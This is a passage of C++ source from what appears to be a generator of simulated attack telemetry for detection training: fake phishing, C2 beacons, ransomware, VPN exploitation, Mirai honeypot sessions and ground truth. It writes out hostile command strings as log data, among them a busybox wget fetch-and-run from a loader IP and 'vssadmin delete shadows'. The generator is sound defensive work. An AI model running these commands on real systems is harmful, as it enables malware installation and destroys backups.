  ZeekConn(at + 2 * kSecond, uid, h.ip, sport, payload_ip, 80, "tcp", "http",
           320, s.size, "SF", Label(fq, "T1105", "payload download"), r);
  ZeekHttp(at + 2 * kSecond, uid, h.ip, sport, payload_ip, 80, "GET", domain,
           path,
           "Mozilla/5.0 (Windows NT; Windows NT 10.0; ja-JP) "
           "WindowsPowerShell/5.1.19041.1",
           200, 0, s.size, Label(fq, "T1105", "payload download"));
  EveAlert(at + 2 * kSecond, h.ip, sport, payload_ip, 80, 2030868,
           fmt::format("ET MALWARE Possible {} Payload Download",
                       sc_.threat.malware),
           "A Network Trojan was detected", 1,
           Label(fq, "T1105", "payload download"), r, "http");
  Seen(domain, at);
  Seen(url, at);
  Seen(FormatIpv4(payload_ip), at);
  FileCreate(at + 4 * kSecond, h, ps, dll,
             Label(fq, "T1105", "payload written to disk"));
  Proc loader = NewProc(
      r, "C:\\Windows\\System32\\regsvr32.exe",
      fmt::format("C:\\Windows\\system32\\regsvr32.exe /s \"{}\"", dll));
  ProcessCreate(at + 6 * kSecond, h, loader, ps,
                fmt::format("SHA256={}", s.sha256),
                Label(fq, "T1218.010", "payload run by regsvr32"), r);
  Seen(s.sha256, at);
  RegistrySet(
      at + 8 * kSecond, h, loader,
      fmt::format("HKU\\S-1-5-21-{}-{}-{}-"
                  "1001\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\{}",
                  r.Range(100000000, 999999999), r.Range(100000000, 999999999),
                  r.Range(100000000, 999999999), r.Hex(6)),
      loader.cmd, Label(fq, "T1547.001", "run key persistence"));
  size_t c2 = r.Below(th.c2_ips.size());
  NetworkConnect(at + 10 * kSecond, h, loader, th.c2_ips[c2], th.c2_ports[c2],
                 "-", Label(fq, "T1071.001", "first C2 connection"), r);
}

void Engine::Beacon(Implant& imp, int64_t t) {
  Rng& r = net_;
  const Host& h = H(imp.host);
  std::string fq = Fqdn(h);
  uint32_t c2 = w_.threat.c2_ips[imp.c2];
  uint16_t port = w_.threat.c2_ports[imp.c2];
  uint16_t sport = static_cast<uint16_t>(r.Range(49152, 65535));
  std::string uid = Uid(r);
  std::string label = Label(fq, "T1071.001", "C2 beacon");
  int64_t ob = r.Range(300, 2200), rb = r.Range(140, 9000);
  ZeekConn(t, uid, h.ip, sport, c2, port, "tcp", port == 443 ? "ssl" : "http",
           ob, rb, "SF", label, r);
  if (port != 443) {
    ZeekHttp(t, uid, h.ip, sport, c2, port, "POST", FormatIpv4(c2),
             fmt::format("/{}/{}/", r.Hex(6), r.Hex(10)),
             "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1; Trident/7.0)",
             200, ob, rb, label);
  }
  if (r.Chance(0.5)) {
    EveAlert(t, h.ip, sport, c2, port, 2035883,
             fmt::format("ET MALWARE Win32/{} CnC Activity (POST) M4",
                         sc_.threat.malware),
             "A Network Trojan was detected", 1, label, r,
             port == 443 ? "tls" : "http");
  }
  Seen(FormatIpv4(c2), t);
  imp.next_beacon = t + static_cast<int64_t>(r.Range(12, 18)) * kMinute +
                    r.Range(0, 59) * kSecond;
}

void Engine::Encrypt(uint32_t org, int64_t t) {
  Rng& r = bg_;
  const Org& o = O(org);
  internal::Incident inc;
  inc.kind = "ransomware";
  inc.org = org;
  inc.t_us = t;
  inc.end_us = t + 30 * kMinute;
  std::string family = sc_.threat.ransomware.empty() ? sc_.threat.malware
                                                     : sc_.threat.ransomware;
  std::string exe = w_.threat.ransomware.file_name.empty()
                        ? "locker.exe"
                        : w_.threat.ransomware.file_name;
  for (uint32_t i = o.first_host; i < o.first_host + o.host_count; ++i) {
    const Host& h = H(i);
    if (h.kind == HostKind::kVpn) continue;
    int64_t at = t + static_cast<int64_t>(r.Uniform() * 20 * kMinute);
    std::string fq = Fqdn(h);
    Proc parent =
        NewProc(r, "C:\\Windows\\System32\\cmd.exe", "cmd.exe /c start");
    Proc vss = NewProc(r, "C:\\Windows\\System32\\vssadmin.exe",
                       "vssadmin.exe delete shadows /all /quiet");
    ProcessCreate(at, h, vss, parent, Hashes(r),
                  Label(fq, "T1490", "shadow copies deleted"), r);
    Proc loc = NewProc(r, fmt::format("C:\\Users\\Public\\{}", exe),
                       fmt::format("C:\\Users\\Public\\{} -network", exe));
    ProcessCreate(at + 5 * kSecond, h, loc, parent,
                  w_.threat.ransomware.sha256.empty()
                      ? Hashes(r)
                      : "SHA256=" + w_.threat.ransomware.sha256,
                  Label(fq, "T1486", family + " encryptor started"), r);
    for (int f = 0; f < 4; ++f) {
      FileCreate(
          at + (8 + f) * kSecond, h, loc,
          fmt::format("C:\\Users\\{}\\Documents\\{}.xlsx.{}",
                      h.user.empty() ? "Public" : h.user, r.Hex(6), "locked"),
          Label(fq, "T1486", "file encrypted"));
    }
    FileCreate(at + 13 * kSecond, h, loc,
               fmt::format("C:\\Users\\{}\\Desktop\\README_RESTORE_FILES.txt",
                           h.user.empty() ? "Public" : h.user),
               Label(fq, "T1486", "ransom note"));
    if (!infected_[i]) {
      infected_[i] = 1;
      st_.infections.push_back({i, at, "ransomware", -1});
    }
    encrypted_[i] = 1;
    ++inc.hosts;
  }
  if (!w_.threat.ransomware.sha256.empty())
    Seen(w_.threat.ransomware.sha256, t);
  st_.incidents.push_back(inc);
  Schedule(t + 2 * kHour, TaskKind::kNews, 0, org,
           o.kind == "hospital" ? "hospital" : "ransomware");
  for (int i = 0; i < 10; ++i) {
    Schedule(t + static_cast<int64_t>(r.Uniform() * 6 * kHour) + kHour,
             TaskKind::kPost, 1, org,
             o.kind == "hospital" ? "hospital" : "ransomware");
  }
}

void Engine::VpnExploit(uint32_t org, int64_t t, int attempts) {
  Rng& r = net_;
  const Org& o = O(org);
  uint32_t vpn = UINT32_MAX;
  uint32_t server = o.first_host;
  for (uint32_t i = o.first_host; i < o.first_host + o.host_count; ++i) {
    if (H(i).kind == HostKind::kVpn) vpn = i;
  }
  if (vpn == UINT32_MAX) return;
  const Host& v = H(vpn);
  uint32_t src = w_.threat.exploit_ip;
  std::string cve = sc_.threat.cve.empty() ? "CVE-2023-4966" : sc_.threat.cve;
  for (int i = 0; i < attempts; ++i) {
    int64_t at =
        t - 30 * kMinute + static_cast<int64_t>(r.Uniform() * 30 * kMinute);
    uint16_t sport = static_cast<uint16_t>(r.Range(30000, 60000));
    std::string uid = Uid(r);
    std::string label = Label(Fqdn(v), "T1190", "exploit attempt " + cve);
    ZeekConn(at, uid, src, sport, v.ip, 443, "tcp", "http",
             r.Range(24000, 26000), r.Range(400, 90000), "SF", label, r);
    ZeekHttp(at, uid, src, sport, v.ip, 443, "GET",
             std::string(24000, 'a').substr(0, 64) + "...",
             "/oauth/idp/.well-known/openid-configuration",
             "Mozilla/5.0 (X11; Linux x86_64)", 200, 0, r.Range(400, 90000),
             label);
    EveAlert(at, src, sport, v.ip, 443, 2049157,
             fmt::format("ET EXPLOIT Possible Exploitation Attempt ({})", cve),
             "Attempted Administrator Privilege Gain", 1, label, r, "http");
  }
  Seen(FormatIpv4(src), t);
  internal::Incident inc;
  inc.kind = "vpn_exploit";
  inc.org = org;
  inc.t_us = t;
  inc.end_us = t;
  inc.hosts = 1;
  st_.incidents.push_back(inc);
  for (uint32_t i = o.first_host; i < o.first_host + o.host_count; ++i) {
    if (H(i).kind == HostKind::kServer) {
      server = i;
      break;
    }
  }
  Schedule(t + 20 * kMinute, TaskKind::kInfect, server, -1, "vpn");
}

void Engine::WriteNews(const std::string& topic, int64_t org, int64_t t) {
  Rng& r = text_;
  const Org* o = org >= 0 ? &O(static_cast<uint32_t>(org)) : nullptr;
  static constexpr const char* kOutletsJa[] = {
      "東海日報", "中部経済新聞（架空）", "サイバー通信"};
  static constexpr const char* kOutletsEn[] = {"Japan Industry Times (sim)",
                                               "The Cyber Ledger (sim)"};
  uint64_t variant = r.Next();
  for (bool ja : {true, false}) {
    internal::Text tx = internal::NewsText(topic, ja, sc_, w_, o, variant);
    int64_t at = t + (ja ? 0 : static_cast<int64_t>(r.Range(20, 90)) * kMinute);
    std::string id = "news-" + r.Hex(12);
    Json j;
    j.Str("id", id)
        .Str("published", internal::Rfc3339(at, 0))
        .Str("lang", ja ? "ja" : "en")
        .Str("source", ja ? kOutletsJa[r.Below(std::size(kOutletsJa))]
                          : kOutletsEn[r.Below(std::size(kOutletsEn))])
        .Str("url",
             fmt::format("https://news.example/{}/{}", ja ? "ja" : "en", id))
        .Str("title", tx.title)
        .Str("body", tx.body)
        .Str("topic", topic);
    bool relevant = topic != "chatter";
    news_.Add(
        at, j.Done(),
        relevant
            ? fmt::format("\"label\":\"incident\",\"topic\":\"{}\"{}", topic,
                          o ? ",\"org\":\"" + std::string(o->name) + "\"" : "")
            : "");
  }
}

void Engine::WritePost(const std::string& topic, int64_t org, int64_t t,
                       bool relevant) {
  Rng& r = text_;
  const Org* o = org >= 0 ? &O(static_cast<uint32_t>(org)) : nullptr;
  bool ja = r.Chance(0.75);
  std::string text = internal::PostText(topic, ja, sc_, w_, o, r.Next());
  static constexpr const char* kUsers[] = {
      "tanuki_dev",  "keiko_factory",  "night_sre",  "mikawa_guy",
      "secops_jp",   "ramen_engineer", "yuki_nurse", "infra_oji",
      "packet_neko", "blue_team_kun"};
  Json j;
  j.Str("id", std::to_string(1800000000000000000ull + (r.Next() >> 8)))
      .Str("created_at", internal::Rfc3339(t, 0))
      .Str("lang", ja ? "ja" : "en")
      .Str("user", kUsers[r.Below(std::size(kUsers))])
      .Str("text", text)
      .Int("reposts", r.Poisson(relevant ? 20 : 1))
      .Int("likes", r.Poisson(relevant ? 60 : 4));
  posts_.Add(t, j.Done(),
             relevant
                 ? fmt::format("\"label\":\"incident\",\"topic\":\"{}\"", topic)
                 : "");
}

void Engine::RunTask(const Task& task) {
  switch (task.kind) {
    case TaskKind::kEmail:
      SendEmail(static_cast<uint32_t>(task.a), task.t, task.b & 1, task.b & 2);
      break;
    case TaskKind::kInfect:
      Infect(static_cast<uint32_t>(task.a), task.t, task.text, task.b);
      break;
    case TaskKind::kSpread: {
      if (static_cast<int64_t>(st_.infections.size()) >= lateral_max_) break;
      Rng& r = play_;
      uint32_t from = static_cast<uint32_t>(task.a);
      uint32_t org = H(from).org;
      if (r.Chance(cross_org_) && !target_orgs_.empty()) {
        org = target_orgs_[r.Below(target_orgs_.size())];
      }
      const Org& o = O(org);
      std::vector<uint32_t> cand;
      for (uint32_t h = o.first_host; h < o.first_host + o.host_count; ++h) {
        if (!infected_[h] && H(h).kind != HostKind::kVpn) cand.push_back(h);
      }
      if (cand.empty()) break;
      uint32_t to = cand[r.Below(cand.size())];
      Infect(to, task.t, org == H(from).org ? "lateral" : "phishing", from);
      break;
    }
    case TaskKind::kEncrypt:
      Encrypt(static_cast<uint32_t>(task.a), task.t);
      break;
    case TaskKind::kNews:
      WriteNews(task.text, task.b, task.t);
      break;
    case TaskKind::kPost:
      WritePost(task.text, task.b, task.t, task.a == 1);
      break;
    case TaskKind::kExploit:
      break;
  }
}

void Engine::Background(int64_t t0) {
  if (pcs_.empty()) return;
  Rng& r = bg_;
  const BackgroundSpec& b = sc_.background;
  double n = static_cast<double>(pcs_.size()) * opt_.scale / 60.0;
  int64_t k = r.Poisson(b.sysmon_per_host_hour * n);
  for (int64_t i = 0; i < k; ++i) {
    int64_t t = t0 + static_cast<int64_t>(r.Below(kMinute));
    const Host& h = H(pcs_[r.Below(pcs_.size())]);
    const BenignProc& bp = kBenign[r.Below(std::size(kBenign))];
    Proc p = NewProc(r, bp.image, bp.cmd);
    uint64_t kind = r.Below(10);
    if (kind < 5) {
      ProcessCreate(t, h, p, NewProc(r, bp.parent, bp.parent), Hashes(r), "",
                    r);
    } else if (kind < 8) {
      uint32_t cdn = w_.cdn_ips[r.Below(w_.cdn_ips.size())];
      NetworkConnect(t, h, p, cdn, 443, "-", "", r);
    } else {
      const std::string& d =
          w_.popular_domains[r.Below(w_.popular_domains.size())];
      DnsQuery(t, h, p, d, w_.cdn_ips[r.Below(w_.cdn_ips.size())], "");
    }
  }
  Rng& nr = net_;
  k = nr.Poisson(b.dns_per_host_hour * n);
  for (int64_t i = 0; i < k; ++i) {
    int64_t t = t0 + static_cast<int64_t>(nr.Below(kMinute));
    const Host& h = H(pcs_[nr.Below(pcs_.size())]);
    bool own = nr.Chance(0.15);
    std::string q =
        own ? "mail." + O(h.org).domain
            : w_.popular_domains[nr.Below(w_.popular_domains.size())];
    uint32_t ans = own ? O(h.org).internal_base + 3
                       : w_.cdn_ips[nr.Below(w_.cdn_ips.size())];
    ZeekDns(t, Uid(nr), h.ip, ResolverOf(h), q, ans, "", nr, nr.Chance(0.25));
  }
  k = nr.Poisson(b.http_per_host_hour * n);
  static constexpr const char* kUris[] = {"/",
                                          "/index.html",
                                          "/api/v1/status",
                                          "/static/app.js",
                                          "/favicon.ico",
                                          "/news/",
                                          "/search?q=weather"};
  for (int64_t i = 0; i < k; ++i) {
    int64_t t = t0 + static_cast<int64_t>(nr.Below(kMinute));
    const Host& h = H(pcs_[nr.Below(pcs_.size())]);
    size_t d = nr.Below(w_.popular_domains.size());
    uint32_t dst = w_.cdn_ips[d % w_.cdn_ips.size()];
    std::string uid = Uid(nr);
    uint16_t sport = static_cast<uint16_t>(nr.Range(49152, 65535));
    int64_t rb = nr.Range(300, 400000);
    ZeekConn(t, uid, h.ip, sport, dst, 80, "tcp", "http", nr.Range(200, 900),
             rb, "SF", "", nr);
    ZeekHttp(t, uid, h.ip, sport, dst, 80, "GET", w_.popular_domains[d],
             kUris[nr.Below(std::size(kUris))],
             "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
             "(KHTML, like Gecko) "
             "Chrome/120.0.0.0 Safari/537.36",
             200, 0, rb, "");
    if (nr.Chance(0.3)) {
      Json e =
          EveHeader(t, FlowId(nr), "eth1", "http", h.ip, sport, dst, 80, "TCP");
      e.Raw("http", Json()
                        .Str("hostname", w_.popular_domains[d])
                        .Str("url", "/")
                        .Str("http_method", "GET")
                        .Str("protocol", "HTTP/1.1")
                        .Int("status", 200)
                        .Int("length", rb)
                        .Done());
      eve_.Add(t, e.Done(), "");
    }
  }
}

Status Engine::Darknet(int64_t t0) {
  const BackgroundSpec& b = sc_.background;
  double research = b.darknet_pps * 0.4 * opt_.scale;
  if (w_.research_scanners.empty()) research = 0;
  double other =
      b.darknet_pps * (w_.research_scanners.empty() ? 1.0 : 0.6) * opt_.scale;
  double mult = SurgeMultiplier(t0);
  double mirai = st_.bots.empty() ? 0 : b.mirai_pps * opt_.scale * mult;
  double back = 0;
  std::vector<const Backscatter*> active;
  for (const Backscatter& d : ddos_) {
    if (t0 >= d.start && t0 < d.end) {
      back += d.pps;
      active.push_back(&d);
    }
  }
  double total = research + other + mirai + back;
  int64_t n_research = 0, n_other = 0, n_mirai = 0, n_back = 0, syn23 = 0;
  if (total > 0) {
    Rng& r = dark_;
    double mean_gap = 1e6 / total;  // microseconds
    double t = static_cast<double>(t0) + r.Exponential(mean_gap);
    const double end = static_cast<double>(t0 + kMinute);
    PcapOutput::Tcp p{};
    while (t < end) {
      double u = r.Uniform() * total;
      p.dst = DarknetIp(r);
      p.ip_id = static_cast<uint16_t>(r.Next());
      p.ack = 0;
      p.flags = internal::kSyn;
      if (u < mirai) {
        ++n_mirai;
        p.src = H(st_.bots[r.Below(st_.bots.size())].host).ip;
        p.dport = r.Chance(0.9) ? 23 : 2323;
        p.sport = static_cast<uint16_t>(r.Range(1024, 65535));
        p.seq = p.dst;  // Mirai's fingerprint
        p.ttl = static_cast<uint8_t>(r.Range(38, 64));
        p.window = static_cast<uint16_t>(r.Range(1024, 65535));
      } else if (u < mirai + research) {
        ++n_research;
        const Scanner& s =
            w_.research_scanners[r.Below(w_.research_scanners.size())];
        p.src = s.ip;
        p.dport = kScanPorts[r.Below(std::size(kScanPorts))];
        p.sport = static_cast<uint16_t>(r.Range(32768, 61000));
        p.seq = static_cast<uint32_t>(r.Next());
        p.ttl = static_cast<uint8_t>(r.Range(48, 60));
        p.window = 65535;
        p.ip_id = 54321;  // ZMap's constant IP id
      } else if (u < mirai + research + other) {
        ++n_other;
        p.src = RandomInternetIp(r);
        p.dport = kScanPorts[r.Below(std::size(kScanPorts))];
        p.sport = static_cast<uint16_t>(r.Range(1024, 65535));
        p.seq = static_cast<uint32_t>(r.Next());
        p.ttl = static_cast<uint8_t>(r.Range(40, 120));
        p.window = static_cast<uint16_t>(r.Chance(0.5) ? 1024 : 29200);
      } else {
        ++n_back;
        const Backscatter* d = active[r.Below(active.size())];
        p.src = d->victims[r.Below(d->victims.size())];
        p.sport = r.Chance(0.7) ? 443 : 80;
        p.dport = static_cast<uint16_t>(r.Range(1024, 65535));
        p.seq = static_cast<uint32_t>(r.Next());
        p.ack = static_cast<uint32_t>(r.Next());
        p.flags = r.Chance(0.7) ? (internal::kSyn | internal::kAck)
                                : (internal::kRst | internal::kAck);
        p.ttl = static_cast<uint8_t>(r.Range(50, 64));
        p.window = p.flags & internal::kRst ? 0 : 64240;
      }
      if (p.flags == internal::kSyn && p.dport == 23) ++syn23;
      RETURN_IF_ERROR(pcap_.Add(static_cast<int64_t>(t), p));
      t += r.Exponential(mean_gap);
    }
  }
  Json j;
  j.Str("minute", internal::Rfc3339(t0, 0))
      .Int("packets", n_research + n_other + n_mirai + n_back)
      .Int("mirai", n_mirai)
      .Int("research", n_research)
      .Int("other_scanners", n_other)
      .Int("backscatter", n_back)
      .Int("syn_23", syn23)
      .Int("bots_active", static_cast<int64_t>(st_.bots.size()))
      .Bool("surge", st_.surge_event_us >= 0 && t0 >= st_.surge_event_us);
  dark_truth_.Add(t0, j.Done());
  return Status::Ok();
}

void Engine::CowrieSession(int64_t t, uint32_t src, bool bot,
                           uint32_t honeypot) {
  Rng& r = hp_;
  std::string session = r.Hex(12);
  std::string sensor = fmt::format("hp-{:02d}", honeypot + 1);
  std::string dst = FormatIpv4(w_.honeypots[honeypot]);
  std::string ip = FormatIpv4(src);
  bool telnet = bot || r.Chance(0.2);
  int port = telnet ? 23 : 22;
  std::string truth =
      bot ? fmt::format(
                "\"label\":\"malicious\",\"src\":\"{}\",\"what\":\"{} bot\"",
                ip, sc_.threat.malware)
          : "";
  auto ev = [&](int64_t at, std::string_view id) {
    Json j;
    j.Str("eventid", id)
        .Str("src_ip", ip)
        .Str("session", session)
        .Str("sensor", sensor)
        .Str("timestamp", internal::Rfc3339(at, 6));
    return j;
  };
  Json c = ev(t, "cowrie.session.connect");
  c.Int("src_port", r.Range(1024, 65535))
      .Str("dst_ip", dst)
      .Int("dst_port", port)
      .Str("protocol", telnet ? "telnet" : "ssh")
      .Str("message",
           fmt::format("New connection: {}:{} ({}:{}) [session: {}]", ip,
                       r.Range(1024, 65535), dst, port, session));
  cowrie_.Add(t, c.Done(), truth);
  int64_t at = t + r.Range(1, 3) * kSecond;
  if (!telnet) {
    Json v = ev(at, "cowrie.client.version");
    v.Str("version", r.Chance(0.5) ? "SSH-2.0-Go" : "SSH-2.0-libssh2_1.9.0")
        .Str("message", "Remote SSH version");
    cowrie_.Add(at, v.Done(), truth);
  }
  int fails = static_cast<int>(r.Range(1, bot ? 3 : 6));
  bool success = bot || r.Chance(0.1);
  for (int i = 0; i < fails + (success ? 1 : 0); ++i) {
    at += r.Range(1, 4) * kSecond;
    bool ok = success && i == fails;
    const char* const* cred = bot ? kMiraiCreds[r.Below(std::size(kMiraiCreds))]
                                  : kSshCreds[r.Below(std::size(kSshCreds))];
    Json l = ev(at, ok ? "cowrie.login.success" : "cowrie.login.failed");
    l.Str("username", cred[0])
        .Str("password", cred[1])
        .Str("message", fmt::format("login attempt [{}/{}] {}", cred[0],
                                    cred[1], ok ? "succeeded" : "failed"));
    cowrie_.Add(at, l.Done(), truth);
  }
  if (success) {
    std::vector<std::string> cmds;
    if (bot) {
      const Sample& s = w_.threat.samples[r.Below(w_.threat.samples.size())];
      std::string url = fmt::format(
          "http://{}/bins/{}", FormatIpv4(w_.threat.loader_ip), s.file_name);
      cmds = {"enable",
              "system",
              "shell",
              "sh",
              "/bin/busybox MIRAI",
              fmt::format("cd /tmp || cd /var/run; /bin/busybox wget {}; chmod "
                          "777 {}; ./{} telnet.{}",
                          url, s.file_name, s.file_name, sc_.threat.malware)};
      for (const auto& cmd : cmds) {
        at += r.Range(1, 2) * kSecond;
        Json k = ev(at, "cowrie.command.input");
        k.Str("input", cmd).Str("message", "CMD: " + cmd);
        cowrie_.Add(at, k.Done(), truth);
      }
      at += 2 * kSecond;
      Json d = ev(at, "cowrie.session.file_download");
      d.Str("url", url)
          .Str("outfile", "var/lib/cowrie/downloads/" + s.sha256)
          .Str("shasum", s.sha256)
          .Str("message", fmt::format("Downloaded URL ({}) with SHA-256 {} to "
                                      "var/lib/cowrie/downloads/{}",
                                      url, s.sha256, s.sha256));
      cowrie_.Add(at, d.Done(), truth);
      Seen(s.sha256, at);
      Seen(FormatIpv4(w_.threat.loader_ip), at);
    } else {
      for (const char* cmd :
           {"uname -a", "cat /proc/cpuinfo | grep name | wc -l", "nproc"}) {
        at += r.Range(1, 3) * kSecond;
        Json k = ev(at, "cowrie.command.input");
        k.Str("input", cmd).Str("message", std::string("CMD: ") + cmd);
        cowrie_.Add(at, k.Done(), truth);
      }
    }
  }
  at += r.Range(1, 5) * kSecond;
  Json e = ev(at, "cowrie.session.closed");
  e.Num("duration", static_cast<double>(at - t) / 1e6, 1)
      .Str("message",
           fmt::format("Connection lost after {} seconds", (at - t) / kSecond));
  cowrie_.Add(at, e.Done(), truth);
}

void Engine::Honeypots(int64_t t0) {
  if (w_.honeypots.empty()) return;
  Rng& r = hp_;
  int64_t k =
      r.Poisson(sc_.background.honeypot_sessions_per_hour * opt_.scale / 60.0);
  for (int64_t i = 0; i < k; ++i) {
    int64_t t = t0 + static_cast<int64_t>(r.Below(kMinute));
    uint32_t hp = static_cast<uint32_t>(r.Below(w_.honeypots.size()));
    if (r.Chance(0.6)) {
      CowrieSession(t, RandomInternetIp(r), false, hp);
    } else {
      static constexpr std::pair<int, const char*> kSvc[] = {{445, "smbd"},
                                                             {80, "httpd"},
                                                             {1433, "mssqld"},
                                                             {3306, "mysqld"},
                                                             {21, "ftpd"}};
      auto [port, proto] = kSvc[r.Below(std::size(kSvc))];
      Json j;
      j.Str("timestamp", internal::Rfc3339(t, 6))
          .Str("src_ip", FormatIpv4(RandomInternetIp(r)))
          .Int("src_port", r.Range(1024, 65535))
          .Str("dst_ip", FormatIpv4(w_.honeypots[hp]))
          .Int("dst_port", port)
          .Raw("connection", Json()
                                 .Str("type", "accept")
                                 .Str("transport", "tcp")
                                 .Str("protocol", proto)
                                 .Done())
          .Str("sensor", fmt::format("hp-{:02d}", hp + 1));
      dionaea_.Add(t, j.Done(), "");
    }
  }
  if (!st_.bots.empty()) {
    double rate = 0.003 * static_cast<double>(st_.bots.size()) * opt_.scale;
    k = r.Poisson(rate);
    for (int64_t i = 0; i < k; ++i) {
      int64_t t = t0 + static_cast<int64_t>(r.Below(kMinute));
      uint32_t src = H(st_.bots[r.Below(st_.bots.size())].host).ip;
      CowrieSession(t, src, true,
                    static_cast<uint32_t>(r.Below(w_.honeypots.size())));
    }
  }
}

Status Engine::FlushAll() {
  for (LineOutput* o : {&sysmon_, &eve_, &conn_, &dns_, &http_, &cowrie_,
                        &dionaea_, &posts_, &news_, &dark_truth_}) {
    RETURN_IF_ERROR(o->Flush());
  }
  return Status::Ok();
}

Status Engine::CloseAll(std::vector<OutputFile>* files) {
  RETURN_IF_ERROR(pcap_.Close());
  if (pcap_.packets() > 0) files->push_back(pcap_.Info());
  for (LineOutput* o : {&sysmon_, &eve_, &conn_, &dns_, &http_, &cowrie_,
                        &dionaea_, &posts_, &news_, &dark_truth_}) {
    RETURN_IF_ERROR(o->Close());
    if (o != &dark_truth_ && o->records() > 0) files->push_back(o->Info());
  }
  return Status::Ok();
}

Status Engine::Run(RunSummary* out) {
  start_ = sc_.start.micros;
  const int64_t total_minutes = static_cast<int64_t>(sc_.hours) * 60;
  st_.end_us = start_ + total_minutes * kMinute;
  infected_.assign(w_.hosts.size(), 0);
  encrypted_.assign(w_.hosts.size(), 0);
  for (uint32_t i = 0; i < w_.hosts.size(); ++i) {
    const Host& h = H(i);
    if ((h.kind == HostKind::kPc || h.kind == HostKind::kServer) &&
        O(h.org).kind != "isp") {
      pcs_.push_back(i);
    }
  }
  // The devices that will fall to the botnet, in order.
  if (sc_.background.mirai_pps > 0 && !w_.devices.empty()) {
    Rng r = root_.Fork("bots");
    bot_order_ = w_.devices;
    for (size_t i = bot_order_.size(); i > 1; --i) {
      std::swap(bot_order_[i - 1], bot_order_[r.Below(i)]);
    }
    double factor = 1;
    for (const ActionSpec& a : sc_.events) {
      if (a.action == "scan_surge")
        factor = std::max(factor, a.Number("factor", 10));
    }
    // A few percent of the devices are infected before the surge; the surge
    // multiplies them by its factor.
    double n = static_cast<double>(bot_order_.size());
    bots_base_ = std::max<size_t>(
        1, static_cast<size_t>(std::min(n / factor, n * 0.03)));
    GrowBots(start_);
  }
  size_t next_action = 0;
  for (int64_t m = 0; m < total_minutes; ++m) {
    const int64_t t0 = start_ + m * kMinute;
    const int64_t t1 = t0 + kMinute;
    while (next_action < sc_.events.size() &&
           start_ + static_cast<int64_t>(sc_.events[next_action].at_hours *
                                         kHour) <
               t1) {
      const ActionSpec& a = sc_.events[next_action++];
      FireAction(
          a, std::max(t0, start_ + static_cast<int64_t>(a.at_hours * kHour)));
    }
    while (!tasks_.empty() && tasks_.top().t < t1) {
      Task task = tasks_.top();
      tasks_.pop();
      RunTask(task);
    }
    for (Implant& imp : implants_) {
      while (imp.next_beacon < t1) Beacon(imp, imp.next_beacon);
    }
    GrowBots(t0);
    Background(t0);
    RETURN_IF_ERROR(Darknet(t0));
    Honeypots(t0);
    int64_t k =
        text_.Poisson(sc_.background.posts_per_hour * opt_.scale / 60.0);
    for (int64_t i = 0; i < k; ++i) {
      WritePost("chatter", -1, t0 + static_cast<int64_t>(text_.Below(kMinute)),
                false);
    }
    RETURN_IF_ERROR(FlushAll());
    if (opt_.on_progress && (m % 10 == 0 || m + 1 == total_minutes)) {
      int64_t records = pcap_.packets() + sysmon_.records() + eve_.records() +
                        conn_.records() + dns_.records() + http_.records() +
                        cowrie_.records();
      opt_.on_progress(
          static_cast<double>(m + 1) / static_cast<double>(total_minutes),
          records);
    }
  }
  // Tasks scheduled past the end are dropped: the scenario ends.
  std::vector<OutputFile>& files = out->files;
  RETURN_IF_ERROR(CloseAll(&files));
  out->pcap_bytes = pcap_.bytes();
  out->packets = pcap_.packets();

  std::vector<std::string> indicator_truth, sbom_truth;
  RETURN_IF_ERROR(internal::WriteStixBundles(
      sc_, w_, st_, root_.Fork("stix"), dir_, &files, &indicator_truth,
      &out->indicators, &out->false_positive_indicators));
  RETURN_IF_ERROR(
      internal::WriteScans(sc_, w_, st_, root_.Fork("scans"), dir_, &files));
  RETURN_IF_ERROR(internal::WriteSboms(sc_, w_, root_.Fork("sbom"), dir_,
                                       &files, &sbom_truth));
  RETURN_IF_ERROR(internal::WriteReports(sc_, w_, st_, root_.Fork("reports"),
                                         dir_, &files));

  out->scenario = sc_.name;
  out->seed = opt_.seed;
  out->scale = opt_.scale;
  out->start = Timestamp{start_};
  out->end = Timestamp{st_.end_us};
  out->sectors_hit.assign(sectors_hit_.begin(), sectors_hit_.end());
  out->orgs_hit = orgs_hit_;
  for (const auto& inf : st_.infections) {
    (void)inf;
    ++out->infected_hosts;
  }
  out->infected_devices = static_cast<int64_t>(st_.bots.size());
  for (uint8_t e : encrypted_) out->encrypted_hosts += e;
  if (!st_.infections.empty()) {
    out->patient_zero = H(st_.infections[0].host).name;
    out->first_infection = Timestamp{st_.infections[0].t_us};
  }
  if (st_.surge_event_us >= 0) {
    out->surge_start = Timestamp{st_.surge_event_us};
    out->surge_factor = st_.surge_factor;
  }
  std::string gt = GroundTruth(*out, indicator_truth, sbom_truth);
  RETURN_IF_ERROR(internal::WriteWhole(dir_, "ground_truth.json", gt,
                                       "ground-truth", 1, &files));
  for (const OutputFile& f : files) {
    out->records += f.records;
    out->bytes += f.bytes;
  }
  return Status::Ok();
}

std::string Engine::GroundTruth(const RunSummary& s,
                                const std::vector<std::string>& indicators,
                                const std::vector<std::string>& sboms) {
  std::string o = "{\n";
  auto member = [&](std::string_view key, const std::string& value,
                    bool last = false) {
    AppendJsonString(key, &o);
    o += ':';
    o += value;
    o += last ? "\n" : ",\n";
  };
  auto str = [](std::string_view v) {
    std::string q;
    AppendJsonString(v, &q);
    return q;
  };
  auto list = [](const std::vector<std::string>& items) {
    std::string q = "[";
    for (size_t i = 0; i < items.size(); ++i) {
      q += i ? ",\n  " : "\n  ";
      q += items[i];
    }
    q += items.empty() ? "]" : "\n]";
    return q;
  };
  member("scenario", str(sc_.name));
  member("seed", std::to_string(opt_.seed));
  member("scale", fmt::format("{}", opt_.scale));
  member("start", str(internal::Rfc3339(start_)));
  member("end", str(internal::Rfc3339(st_.end_us)));
  std::vector<std::string> inf;
  for (const auto& i : st_.infections) {
    const Host& h = H(i.host);
    const Org& g = O(h.org);
    Json j;
    j.Str("host", h.name)
        .Str("fqdn", Fqdn(h))
        .Str("ip", FormatIpv4(h.ip))
        .Str("kind", HostKindName(h.kind))
        .Str("user", h.user)
        .Str("org", g.name)
        .Str("org_ja", g.name_ja)
        .Str("sector", g.sector)
        .Str("infected_at", internal::Rfc3339(i.t_us))
        .Str("via", i.via)
        .Bool("encrypted", encrypted_[i.host] != 0);
    if (i.from >= 0) j.Str("from", H(static_cast<uint32_t>(i.from)).name);
    inf.push_back(j.Done());
  }
  member("infected_hosts", list(inf));
  std::vector<std::string> bots;
  for (const auto& b : st_.bots) {
    const Host& h = H(b.host);
